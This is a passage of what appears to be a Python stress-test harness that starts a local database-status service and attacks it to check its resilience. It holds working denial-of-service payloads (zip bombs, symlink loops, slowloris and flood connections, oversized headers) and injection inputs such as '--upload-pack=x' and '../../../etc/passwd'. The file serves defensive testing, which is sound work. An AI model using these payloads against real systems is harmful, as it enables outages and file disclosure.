        ("good/m/versions/" + "d/" * 2000 + "a%d.py" % i, SCRIPT) for i in range(3)]), 1)


@uploading("upload_of_links")
def upload_of_links():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for i in range(15_000):
            entry = tarfile.TarInfo("good/m/versions/l%05d.py" % i)
            entry.type, entry.linkname = tarfile.SYMTYPE, "l%05d.py" % ((i + 1) % 15_000)
            archive.addfile(entry)
        entry = tarfile.TarInfo("good/alembic.ini")
        entry.size = len(INI)
        archive.addfile(entry, io.BytesIO(INI))
    return out.getvalue()


@uploading("upload_that_is_cut_off", kind="application/gzip")
def upload_that_is_cut_off():
    return gzip.compress(tar([("m/a.py", os.urandom(3 << 20))]))[:-1000]


@uploading("upload_of_nonsense")
def upload_of_nonsense():
    return os.urandom(8 << 20)


@uploading("upload_of_20_mb")
def upload_of_20_mb():
    return b"x" * (20 << 20)


@uploading("zip_of_zeros", kind="application/zip")
def zip_of_zeros():
    return zipped([("good/m/versions/a%d.py" % i, b"\0" * (16 << 20)) for i in range(40)])


@uploading("zip_of_many_entries", kind="application/zip")
def zip_of_many_entries():
    return zipped([("%d" % i, b"") for i in range(150_000)], zipfile.ZIP_STORED)


@uploading("zip_of_one_local_entry", kind="application/zip")
def zip_of_one_local_entry():
    """A directory of 300,000 entries that share one file."""
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    entry = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * 300_000
    return local + directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, len(directory), len(local), 0)


@uploading("zip_that_overlaps", kind="application/zip")
def zip_that_overlaps():
    """Every entry of the directory is the same megabyte of zeros."""
    content = b"\0" * (50 << 20)
    deflated = zlib.compress(content, 9)[2:-4]
    crc = zlib.crc32(content)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(deflated), len(content), 1, 0) + b"a" + deflated
    directory = b"".join(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(deflated), len(content), 5, 0, 0, 0,
                                     0, 0, 0) + b"%05d" % i for i in range(1000))
    return local + directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1000, 1000, len(directory), len(local), 0)


@uploading("zip_of_long_names", kind="application/zip")
def zip_of_long_names():
    return zipped([("n" * 60_000 + "%d" % i, b"") for i in range(120)], zipfile.ZIP_STORED)


@uploading("upload_of_history", kind="application/gzip", path="/components/good/revisions")
def upload_of_history():
    return upload_of_large_scripts()


@caller
def many_uploads_at_once(service):
    bodies = [(gzip.compress(tar([("good/alembic.ini", INI)] + [
        ("good/m/versions/s%d.py" % i, b'revision = "s%d"\ndown_revision = None\n' % i + b"a=1;" * 260_000) for i in range(58)]), 1),
               "application/gzip"),
              (b"\0" * ((16 << 20) - 1), "application/x-tar"),
              (gzip.compress(tar([("m/data", b"x" * (60 << 20))]), 1), "application/gzip")]

    def send(i):
        body, kind = bodies[i % len(bodies)]
        return service.get("/components/good/db-status", {"Content-Type": kind}, method="POST", body=body, timeout=60)[0]

    return many_of(service, send, 60, (0, 200, 413, 422, 429, 503))


@caller
def slow_uploads(service):
    """They take all places for uploads; whoever comes later must get one within a quarter of a minute."""
    socks = []
    try:
        for _ in range(12):
            sock = socket.create_connection(("127.0.0.1", service.port))
            sock.sendall(("POST /components/good/db-status HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n"
                          "Content-Type: application/x-tar\r\nContent-Length: 10000000\r\n\r\n" % TOKEN).encode())
            socks.append(sock)
        begin = time.time()
        body = tar([("good/alembic.ini", INI), ("good/m/versions/a1.py", SCRIPT)])
        while time.time() - begin < 40:
            for sock in socks:
                try:
                    sock.sendall(b"x")
                except OSError:
                    pass
            if time.time() - begin > 3:
                status, _, _ = service.get("/components/good/db-status", {"Content-Type": "application/x-tar"}, method="POST", body=body)
                if status == 200:
                    return None if time.time() - begin < 20 else "no place for %.0f s" % (time.time() - begin)
            time.sleep(1)
        return "no place for an upload"
    finally:
        for sock in socks:
            sock.close()


@caller
def many_slow_bodies(service):
    """Bodies that nobody has asked for, a byte a second."""
    socks = []
    try:
        for i in range(300):
            sock = socket.create_connection(("127.0.0.1", service.port))
            path, method = [("/components/good/db-status", "POST"), ("/components/good/db-status", "GET"), ("/nowhere", "POST"),
                            ("/components/good/revisions", "PUT")][i % 4]
            sock.sendall(("%s %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nTransfer-Encoding: chunked\r\n"
                          "Content-Type: application/gzip\r\n\r\n" % (method, path, TOKEN)).encode())
            socks.append(sock)
        begin = time.time()
        while time.time() - begin < 25:
            for sock in list(socks):
                try:
                    sock.sendall(b"1\r\nx\r\n")
                except OSError:
                    socks.remove(sock)
                    sock.close()
            if not good(service):
                return "the good one was not answered meanwhile"
            time.sleep(1)
        return None if len(socks) < 30 else "%d of 300 are still open" % len(socks)
    finally:
        for sock in socks:
            sock.close()


@caller
def bodies_without_end(service):
    """As many bytes as go through, in one chunk after the other."""

    def send(i):
        with socket.create_connection(("127.0.0.1", service.port), timeout=20) as sock:
            path, method = [("/components/good/db-status", "POST"), ("/components/good/db-status", "GET"), ("/nowhere", "POST"),
                            ("/components/good/revisions", "POST")][i % 4]
            sock.sendall(("%s %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nTransfer-Encoding: chunked\r\n"
                          "Content-Type: application/x-tar\r\n\r\n" % (method, path, TOKEN)).encode())
            sent = 0
            try:
                while sent < 300 << 20:
                    sock.sendall(b"100000\r\n" + b"x" * (1 << 20) + b"\r\n")
                    sent += 1 << 20
            except OSError:
                return 200 if sent < 40 << 20 else 999
            return 999

    return many_of(service, send, 20, (200, 0))


@caller
def a_body_to_whoever_wants_none(service):
    for method, path in (("POST", "/db-status"), ("POST", "/components"), ("PUT", "/components/good/db-status"), ("POST", "/actuator/health"),
                         ("POST", "/components/good/graph"), ("POST", "/events"), ("DELETE", "/components/good/db-status")):
        try:
            status, _, _ = service.get(path, {"Content-Type": "application/x-www-form-urlencoded"}, method=method, body=b"a=b&" * 3_000_000)
        except (BrokenPipeError, ConnectionResetError):
            continue
        if status not in (400, 404, 405, 413, 415):
            return "%s %s: %d" % (method, path, status)
    return None


@caller
def strange_refs(service):
    for ref in ("--upload-pack=x", "HEAD~100000", "HEAD" + "^" * 290, "HEAD" + "~99999" * 40, "@{u}", ":/x", "HEAD^{/(a+)+$}", "/etc/passwd",
                "../../../etc/passwd", "refs/../../x", "a" * 5000, "%00", "HEAD%0a"):
        for resource in ("db-status", "revisions", "graph.svg", "schema", "plan"):
            status, _, body = service.get("/components/good/%s?ref=%s" % (resource, urllib.parse.quote(ref, safe="%")))
            if status not in (400, 404) or b"root:" in body:
                return "%s of %s: %d %s" % (resource, ref[:30], status, body[:100])
    return None


@caller
def patterns_that_repeat(service):
    begin = time.time()
    for pattern in ("*a" * 1000 + "b", "?" * 2000, "*" * 3000, "**/" * 900):
        status, _, _ = service.get("/components/many-refs/refs?limit=1&match=" + pattern)
        if status not in (200, 400, 404):
            return "answered by %d" % status
    seconds = time.time() - begin
    return None if seconds < 20 else "took %.1f s" % seconds


@caller
def long_lists_of_needs(service):
    begin = time.time()
    for needs in (",".join("r%d" % i for i in range(1200)), "r" * 7000, "," * 7000):
        status, _, _ = service.get("/components/big/db-status?needs=" + needs)
        if status not in (200, 400, 503):
            return "answered by %d" % status
    seconds = time.time() - begin
    return None if seconds < 15 else "took %.1f s" % seconds


@caller
def many_streams(service):
    socks = []
    try:
        for i in range(900):
            sock = socket.socket()
            sock.settimeout(0.5)
            try:
                sock.connect(("127.0.0.1", service.port))
                sock.sendall(("GET /events HTTP/1.1\r\nHost: x\r\nLast-Event-ID: 1\r\nAuthorization: Bearer %s\r\n\r\n" % TOKEN).encode())
                socks.append(sock)
            except OSError:
                sock.close()
        time.sleep(3)
        return None if good(service) else "the good one was not answered meanwhile"
    finally:
        for sock in socks:
            sock.close()


@caller
def readers_that_do_not_read(service):
    """They ask for large answers, and take none."""
    socks = []
    try:
        for i in range(400):
            sock = socket.socket()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            sock.settimeout(1)
            try:
                sock.connect(("127.0.0.1", service.port))
                path = ("/components/big/revisions?limit=10000", "/components/big/graph.svg?limit=10000", "/v3/api-docs",
                        "/components/big/graph?limit=10000")[i % 4]
                sock.sendall(("GET %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n" % (path, TOKEN)).encode())
                socks.append(sock)
            except OSError:
                sock.close()
        time.sleep(8)
        return None if good(service) else "the good one was not answered meanwhile"
    finally:
        for sock in socks:
            sock.close()


@caller
def everything_at_once(service):
    return many_at_once(service, "/components/db-status", 12, (200, 429, 503, 0))


@caller
def large_schemas_at_once(service):
    return many_at_once(service, "/components/big/schema", 60)


@caller
def large_graphs_of_all_kinds(service):
    kinds = ("graph.svg?limit=10000", "graph?limit=10000", "graph.dot?limit=10000", "graph.mmd?limit=10000", "revisions?limit=10000&format=text")
    return many_of(service, lambda i: service.get("/components/big/" + kinds[i % len(kinds)], timeout=60)[0], 100, (0, 200, 404, 429, 503))


@caller
def headers_of_all_kinds(service):
    for name, text in (("If-None-Match", '"a",' * 1500), ("Accept", "a/b;q=0." + "1" * 6000), ("Accept-Encoding", "gzip," * 1400),
                       ("Accept-Language", "en-" + "a-" * 3000), ("Range", "bytes=" + "0-1," * 1500), ("X-Forwarded-For", "1.1.1.1," * 900),
                       ("Content-Type", "a/b;" + "a=b;" * 1500), ("Cookie", "a=b;" * 1800), ("Accept-Charset", "utf-8," * 1000),
                       ("Expect", "100-continue"), ("Upgrade", "h2c"), ("Last-Event-ID", "9" * 7000), ("If-Modified-Since", "x" * 7000)):
        begin = time.time()
        status, _, _ = service.get("/components/good/db-status", {name: text})
        if status >= 500 or time.time() - begin > 5:
            return "%s: %d after %.1f s" % (name, status, time.time() - begin)
    return None


# --- the service -----------------------------------------------------------------------------------------------------

class Service:
    def __init__(self, command, directory, settings):
        self.command, self.directory, self.settings = command, directory, settings
        self.process = None
        self.deaths = 0
        with socket.create_server(("127.0.0.1", 0)) as free:
            self.port = free.getsockname()[1]

    def start(self):
        arguments = self.command + ["--server.port=%d" % self.port,
                     "--server.address=127.0.0.1", "--db-status.workdir=" + self.directory,
                     "--db-status.builtin-components=false", "--db-status.monitor.interval=0s",
                     "--db-status.security.token=" + TOKEN,
                     "--spring.config.additional-location=file:" + self.settings]
        environment = dict(os.environ, DBSTATUS_SECURITY_TOKEN=TOKEN)
        self.logfile = open(os.path.join(self.directory, "service.log"), "ab")
        self.process = subprocess.Popen(arguments, stdout=self.logfile, stderr=subprocess.STDOUT, env=environment,
                                        cwd=self.directory)
        for _ in range(3000):
            time.sleep(0.2)
            if self.process.poll() is not None:
                raise SystemExit("The service did not start:\n" + self.log()[-3000:])
            try:
                if self.get("/actuator/health/liveness", timeout=2)[0] == 200:
                    return
            except OSError:
                pass
        raise SystemExit("The service did not answer within ten minutes")

    def alive(self):
        """Whether it still runs: one that is out of memory may refuse to end while native code runs, and is no better."""
        if self.process.poll() is not None:
            return False
        for _ in range(3):
            try:
                socket.create_connection(("127.0.0.1", self.port), timeout=10).close()
                return True
            except ConnectionRefusedError:
                time.sleep(0.5)
            except OSError:
                return True
        os.kill(self.pid(), 9)
        self.process.wait()
        return False

    def pid(self):
        """Of the JVM, which may be below the process that was started."""
        mark = b"--server.port=%d\0" % self.port
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                command = open("/proc/%s/cmdline" % pid, "rb").read()
            except OSError:
                continue
            if mark in command and os.path.basename(command.split(b"\0")[0]) == b"java":
                return int(pid)
        return self.process.pid

    def revive(self):
        if not self.alive():
            self.deaths += 1
            self.start()

    def get(self, path, headers=None, timeout=40, source="127.0.0.1", method="GET", body=None):
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=timeout, source_address=(source, 0))
        try:
            all_headers = {"Authorization": "Bearer " + TOKEN}
            all_headers.update(headers or {})
            connection.request(method, path, body=body, headers=all_headers)
            response = connection.getresponse()
            return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
        finally:
            connection.close()

    def log(self):
        with open(os.path.join(self.directory, "service.log"), "rb") as log:
            return log.read().decode("utf-8", "replace")

    def vitals(self):
        resident = threads = 0
        try:
            for line in open("/proc/%d/status" % self.pid()):
                if line.startswith("VmRSS"):
                    resident = int(line.split()[1]) // 1024
                if line.startswith("Threads"):
                    threads = int(line.split()[1])
        except OSError:
            pass
        return "%3d MiB %3d threads" % (resident, threads)

    def cpu(self):
        """Seconds of processors that it has used."""
        try:
            fields = open("/proc/%d/stat" % self.pid()).read().rsplit(")", 1)[1].split()
            return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
        except OSError:
            return 0.0

    def stamp_big(self, row):
        connection = sqlite3.connect(os.path.join(self.directory, "big", "d.db"), timeout=5)
        connection.execute("UPDATE alembic_version SET version_num = ?", (row,))
        connection.commit()
        connection.close()

    def stop(self):
        if self.alive():
            os.kill(self.pid(), 15)
            self.process.wait(30)


def ask_of(service, name, repository, times):
    answer = {}
    begin = time.time()
    words = []
    for i in range(times):
        one = time.time()
        try:
            status, _, body = service.get("/components/" + name + "/db-status?format=json")
            answer = json.loads(body)
            answer["seconds"] = time.time() - one
            words = [body.decode("utf-8", "replace")]
            _, _, text = service.get("/components/" + name + "/db-status?format=text")
            repository.text = text.decode("utf-8", "replace")
            words.append(repository.text)
            if i == times - 1:
                resources = ["schema"] if repository.server else [
                    "revisions?format=text", "revisions?limit=10000", "graph.svg?limit=10000", "schema", "schema?format=text", "plan"]
                if repository.refs:
                    resources += ["refs", "db-status?ref=" + repository.refs, "revisions?ref=" + repository.refs]
                for resource in resources:
                    one = time.time()
                    _, _, more = service.get("/components/" + name + "/" + resource)
                    words.append(more.decode("utf-8", "replace"))
                    if time.time() - one > answer["seconds"]:
                        answer["seconds"] = time.time() - one
            repository.all = " ".join(words)
        except (OSError, ValueError, http.client.HTTPException) as problem:
            answer = {"reason": "no answer: %s" % type(problem).__name__, "seconds": time.time() - one}
        if not service.alive():
            return answer, "DEAD"
        if time.time() - begin > 120:
            break
    return answer, None


def unsettled(service):
    """How much of a processor is in use for no request, if it is much and does not end."""
    busy = 1.0
    for _ in range(10):
        before = service.cpu()
        time.sleep(1)
        busy = service.cpu() - before
        if busy < 0.3:
            return None
    return "%.1f processors busy for nobody" % busy


class Sentinel(threading.Thread):
    """Asks about the good component each second, whatever else goes on."""

    def __init__(self, service):
        super().__init__(daemon=True)
        self.service = service
        self.seconds = []
        self.wrong = []
        self.ended = False

    def run(self):
        while not self.ended:
            begin = time.time()
            try:
                status, _, body = self.service.get("/components/good/db-status?format=json", timeout=60, source="127.0.0.9")
                right = status == 200 and json.loads(body).get("status") == "UP_TO_DATE"
                if not right:
                    self.wrong.append("%d %s" % (status, body[:200].decode("utf-8", "replace")))
            except (OSError, ValueError, http.client.HTTPException) as problem:
                self.wrong.append("%s %s" % (time.strftime("%H:%M:%S"), type(problem).__name__))
            self.seconds.append(time.time() - begin)
            time.sleep(max(0.0, begin + 1 - time.time()))

    def report(self):
        ordered = sorted(self.seconds) or [0.0]
        return "the good component: asked %d times, %d wrong or unanswered, median %.0f ms, 99 %% %.0f ms, longest %.1f s%s" % (
            len(self.seconds), len(self.wrong), 1000 * ordered[len(ordered) // 2], 1000 * ordered[len(ordered) * 99 // 100],
            ordered[-1], "".join("\n    " + w for w in self.wrong[:20]))


def good(service):
    try:
        return json.loads(service.get("/components/good/db-status?format=json", timeout=20)[2]).get("status") == "UP_TO_DATE"
    except (OSError, ValueError, http.client.HTTPException):
        return False


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("jar", nargs="?")
    parser.add_argument("names", nargs="*")
    parser.add_argument("--hour", type=int, metavar="MINUTES", help="repeat all attacks for so many minutes")
    parser.add_argument("--together", type=int, default=1, metavar="N", help="so many attacks at once")
    parser.add_argument("--java", default=os.path.join(os.environ.get("JAVA_HOME", "/usr"), "bin", "java"))
    parser.add_argument("--container", metavar="NAME", help="of buildah: its jar is attacked, in it")
    parser.add_argument("--without-trusted", action="store_true", help="for jars that do not know this setting")
    arguments = parser.parse_intermixed_args()
    if arguments.container and arguments.jar:
        arguments.names.insert(0, arguments.jar)
    directory = tempfile.mkdtemp(prefix="hostile")
    os.chmod(directory, 0o755)
    if arguments.container:
        command = ["buildah", "--storage-driver", "vfs", "run", "--isolation", "chroot", "--user", "10001:10001", "--volume",
                   directory + ":" + directory + ":ro", "--env", "DBSTATUS_SECURITY_TOKEN=" + TOKEN, arguments.container,
                   "--", "java", "@jvm.options", "-XX:AOTCache=db-status.aot", "-jar", "db-status.jar"]
    else:
        command = [arguments.java, "@" + os.path.join(ROOT, "src", "main", "docker", "jvm.options"), "-jar",
                   os.path.abspath(arguments.jar)]
    names = arguments.names or list(REPOSITORY) + list(CALLERS)
    repositories = {}
    settings = {"db-status": {"components": {}}}
    components = settings["db-status"]["components"]

    def component(name, more):
        os.makedirs(os.path.join(directory, name, "m", "versions"))
        components[name] = {"alembic-config": "alembic.ini", "script-location": None}
        return Repository(os.path.join(directory, name))

    for name in ["good", "big"] + [n for n in names if n in REPOSITORY]:
        finish = None
        repository = component(name, {})
        repositories[name] = repository
        own = json.loads(json.dumps(SETTINGS.get(name, {})))
        if arguments.without_trusted:
            own.pop("trusted", None)
        components[name] = dict(own, **{"alembic-config": name + "/alembic.ini"})
        if name == "good":
            repository.ini("sqlite:///good/d.db").script().stamped()
        elif name == "big":
            repository.ini("sqlite:///big/d.db").stamped("r9999")
            for i in range(10000):
                repository.script("r%d" % i, "'r%d'" % i, "None" if i == 0 else "'r%d'" % (i - 1))
        else:
            finish = REPOSITORY[name][0](repository)
        path = os.path.join(repository.directory, "alembic.ini")
        if os.path.getsize(path) > 2 << 20 or os.path.islink(path):
            continue
        text = open(path).read().replace("script_location = m\n", "script_location = %(here)s/m\n")
        text = text.replace("prepend_sys_path = .\n", "prepend_sys_path = %(here)s\n")
        text = text.replace("sqlite:///d.db", "sqlite:///" + name + "/d.db")
        text = text.replace("file:d.db", "file:" + name + "/d.db")
        with open(path, "w") as out:
            out.write(text)
        if callable(finish):
            finish(repository)
    file = os.path.join(directory, "attack.json")
    json.dump(settings, open(file, "w"))
    os.rename(file, file[:-5] + ".yaml")
    service = Service(command, directory, file[:-5] + ".yaml")
    tally = collections.Counter()
    lock = threading.Lock()

    def one(name):
        begin = time.time()
        if name in REPOSITORY:
            _, expect, times = REPOSITORY[name]
            answer, death = ask_of(service, name, repositories[name], times)
            outcome = death or expect(answer, repositories[name])
            if outcome is None and name in SETTLING and arguments.together == 1:
                outcome = unsettled(service)
            seen = "%s, %.1f s" % (answer.get("reason"), answer.get("seconds", 0))
        else:
            try:
                outcome, seen = CALLERS[name](service), ""
            except (OSError, http.client.HTTPException) as problem:
                outcome, seen = "no answer: " + type(problem).__name__, ""
        with lock:
            died = not service.alive()
            if died:
                outcome = outcome or "DEAD"
            service.revive()
        right = good(service)
        with lock:
            tally["attacks"] += 1
            tally["wrong"] += not right
            tally["failed"] += outcome is not None or not right
            print("%-52s %-11s %s%s [%.1f s, %s%s]" % (
                name, "held" if outcome is None else "GOT THROUGH", seen,
                "" if outcome is None else ": " + outcome, time.time() - begin, service.vitals(),
                ", restarted" if died else "" if right else ", the good one was answered wrongly"), flush=True)

    def in_turn(todo):
        while True:
            with lock:
                if not todo:
                    return
                name = todo.pop(0)
            one(name)

    try:
        service.start()
        begin = service.vitals()
        print("%-52s %s" % ("the service has started", begin), flush=True)
        sentinel = Sentinel(service)
        sentinel.start()
        end = time.time() + 60 * (arguments.hour or 0)
        rounds = 0
        while True:
            todo = list(names)
            if rounds:
                random.shuffle(todo)
            workers = [threading.Thread(target=in_turn, args=(todo,)) for _ in range(arguments.together)]
            for worker in workers:
                worker.start()
            for worker in workers:
                worker.join()
            rounds += 1
            print("%-52s %s; %s" % ("round %d" % rounds, service.vitals(), sentinel.report()), flush=True)
            if time.time() >= end:
                break
        sentinel.ended = True
        sentinel.join()
        time.sleep(60 if arguments.hour else 2)
        print("%-52s %s (at the start %s)" % ("afterwards", service.vitals(), begin))
        print(sentinel.report())
        print("%d attacks in %d rounds: %d got through, %d deaths, %d wrong answers about the good component afterwards" % (
            tally["attacks"], rounds, tally["failed"], service.deaths, tally["wrong"]))
    finally:
        service.stop()
        failed = tally["failed"]
        if not failed:
            shutil.rmtree(directory, ignore_errors=True)
        else:
            print("kept: " + directory)
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
